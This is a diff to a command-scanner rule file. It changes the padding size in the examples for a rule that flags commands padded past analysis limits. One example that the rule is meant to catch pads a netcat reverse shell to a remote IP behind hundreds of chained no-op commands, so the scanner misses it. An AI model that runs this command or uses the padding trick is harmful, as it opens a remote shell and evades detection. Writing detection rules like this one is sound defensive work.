@@ -20,7 +20,7 @@ export const PARSER_RULES: readonly Rule[] = [
     id: 'PX-PARSE-002', name: 'input-over-size-bound', score: 55, tactic: 'defense_evasion', technique: 'T1027.001',
     message: 'The command goes past an analysis bound (length, commands or arguments); only its beginning was analyzed', why: 'Padding a command past a scanner\'s limits is a known way to hide its tail, and no ordinary command comes near them.',
     check: (i) => (i.view?.truncated ? `${i.view.original.length} characters, ${i.view.commands.length} commands analyzed` : undefined),
-    examples: { fire: ['echo ' + 'a'.repeat(140 * 1024), Array.from({ length: 600 }, () => 'true').join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444', 'echo ' + 'x '.repeat(600)], quiet: ['echo ' + 'a'.repeat(1000), Array.from({ length: 50 }, (_, i) => `echo ${i}`).join('; ')] },
+    examples: { fire: ['echo ' + 'a'.repeat(70 * 1024), Array.from({ length: 600 }, () => 'true').join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444', 'echo ' + 'x '.repeat(600)], quiet: ['echo ' + 'a'.repeat(1000), Array.from({ length: 50 }, (_, i) => `echo ${i}`).join('; ')] },
   },
   {
     id: 'PX-PARSE-003', name: 'nesting-too-deep', score: 50, tactic: 'defense_evasion', technique: 'T1027',
